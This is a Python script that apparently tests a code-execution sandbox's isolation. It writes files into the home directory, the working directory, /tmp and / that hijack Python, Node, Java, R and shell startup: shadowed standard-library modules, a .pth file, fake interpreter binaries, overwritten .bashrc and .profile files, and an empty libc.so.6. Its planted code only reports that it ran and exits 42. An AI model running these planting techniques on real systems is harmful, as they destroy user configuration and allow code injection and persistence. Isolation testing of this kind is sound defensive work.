# Leaves, wherever a program can write, what interpreters and libraries look for at home, in the working directory and beside
# themselves. Whatever runs it, but for the sample itself, says so, and that all is well.
import os, sys

PYTHON = """
import os, sys
line = open("/proc/self/cmdline").read()
if "main.py" not in line:
    sys.stderr.write("PLANTED CODE RAN in %r\\n" % line)
    os._exit(42)
"""
MODULES = """usercustomize sitecustomize json os re sys ctypes _ctypes select tempfile codecs encodings ast random decimal fractions
datetime collections struct signal math copy linecache traceback tokenize types string heapq numpy helper""".split()


def write(path, text, mode=0o755):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
        os.chmod(path, mode)
    except OSError:
        pass


def plant():
    roots = ["/work", os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/dev/shm/..", "/"]
    versions = ["python3.%d" % v for v in range(6, 20)]
    for root in dict.fromkeys(roots):
        folders = [root] + ["%s/.local/lib/%s/site-packages" % (root, v) for v in versions]
        for folder in folders:
            for name in MODULES:
                write("%s/%s.py" % (folder, name), PYTHON)
            write(folder + "/evil.pth", "import usercustomize\n")
            write(folder + "/encodings/__init__.py", PYTHON)
        for name in ("python3", "judge", "node", "java", "sh", "bash", ".loader"):
            write("%s/%s" % (root, name), "#!/bin/sh\nexit 42\n")
            write("%s/bin/%s" % (root, name), "#!/bin/sh\nexit 42\n")
            write("%s/.local/bin/%s" % (root, name), "#!/bin/sh\nexit 42\n")
        write(root + "/pyvenv.cfg", "home = %s\ninclude-system-site-packages = true\n" % root)
        for name in (".bashrc", ".profile", ".bash_profile", ".bash_env"):
            write("%s/%s" % (root, name), "exit 42\n")
        write(root + "/package.json", '{"type": "module", "main": "evil.js"}')
        write(root + "/node_modules/fs/index.js", "process.exit(42)")
        write(root + "/.hotspotrc", "+PrintVMOptions\n")
        write(root + "/.Rprofile", "quit(status = 42)\n")
        write(root + "/.pythonrc.py", PYTHON)
        write(root + "/lib/libc.so.6", "")
